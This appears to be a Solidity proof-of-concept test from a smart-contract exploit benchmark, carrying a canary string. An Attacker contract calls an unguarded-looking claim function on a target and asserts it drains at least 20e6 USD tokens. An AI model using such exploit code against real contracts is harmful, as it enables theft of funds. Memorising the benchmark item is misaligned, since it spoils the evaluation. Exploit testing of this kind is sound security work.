// SPDX-License-Identifier: BSD-3-Clause
pragma solidity 0.8.30;

// assay-canary-09f07437-5525-4eb7-a57e-ba8be1652998
import "../Base.sol";

interface IClaim {
    function claim(uint256 amount, address to) external;
}

contract Attacker {
    function run(IClaim desk) external {
        try desk.claim(25e6, address(this)) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(IClaim(address(desk)));
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 20e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
